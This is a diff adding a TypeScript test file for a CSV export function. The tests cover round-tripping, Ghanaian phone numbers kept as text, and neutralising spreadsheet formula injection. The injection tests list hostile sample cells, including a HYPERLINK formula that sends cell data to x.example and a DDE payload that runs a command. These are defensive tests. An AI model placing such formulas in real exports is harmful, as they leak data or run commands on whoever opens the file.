@@ -1,0 +1,80 @@
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { csvOf } from '../../src/lists/csv.ts'
+import { readFile } from '../../src/lists/file.ts'
+
+/** As a program reads it. */
+const parsed = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true })
+
+test('rows come back as they were, with quotation marks and line breaks in them', () => {
+  const csv = csvOf([
+    ['Number', 'GB', 'Note'],
+    ['BUD-API-X7-1', 2.5, 'said "yes", twice\nor so'],
+    [null, -23.5, ''],
+  ])
+  expect(csv.startsWith('\ufeffNumber,GB,Note\r\n')).toBe(true)
+  expect(parsed(csv)).toEqual([
+    ['Number', 'GB', 'Note'],
+    ['BUD-API-X7-1', '2.5', 'said "yes", twice\nor so'],
+    ['', '-23.5', ''],
+  ])
+})
+
+test.each([
+  ['0241234567', '="0241234567"'],
+  ['00233241234567', '="00233241234567"'],
+  ['+233241234567', '="+233241234567"'],
+  ['123456789012', '="123456789012"'],
+  ['0', '0'],
+  ['0.5', '0.5'],
+  ['23.50', '23.50'],
+  ['5GB', '5GB'],
+])('%s is written %s: Excel changes no digit', (text, written) => {
+  expect(parsed(csvOf([[text]]))).toEqual([[written]])
+})
+
+describe('what would be a formula', () => {
+  test.each([
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(A1)',
+    '=HYPERLINK("https://x.example?"&A1,"press")',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '＝1+1',
+    '＠x',
+    '="0241234567"&A1',
+    "=cmd|'/c calc'!A1",
+  ])('%j is a text', (text) => {
+    expect(parsed(csvOf([[text]]))).toEqual([[`'${text}`]])
+  })
+
+  test('no text at all begins a formula, but for digits that say they are text', () => {
+    const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', ' ', '0', '"', ',')
+    const text = fc.tuple(start, start, fc.string({ maxLength: 20 })).map((parts) => parts.join(''))
+    fc.assert(
+      fc.property(text, (each) => {
+        const [[cell = ''] = []] = parsed(csvOf([[each, 'end']]))
+        if (/^="\+?\d+"$/.test(cell)) expect(cell).toBe(`="${each}"`)
+        else {
+          expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
+          expect([each, `'${each}`]).toContain(cell)
+        }
+      }),
+    )
+  })
+})
+
+test('our own reader reads back what was written', async () => {
+  const csv = csvOf([
+    ['Number', 'GB'],
+    ['0241234567', 5],
+    ['0559876543', 2.5],
+  ])
+  const reading = await readFile({ name: 'export.csv', mimeType: 'text/csv', bytes: Buffer.from(csv) })
+  expect(reading).toMatchObject({ text: 'Number\tGB\n0241234567\t5\n0559876543\t2.5', rows: 3 })
+})
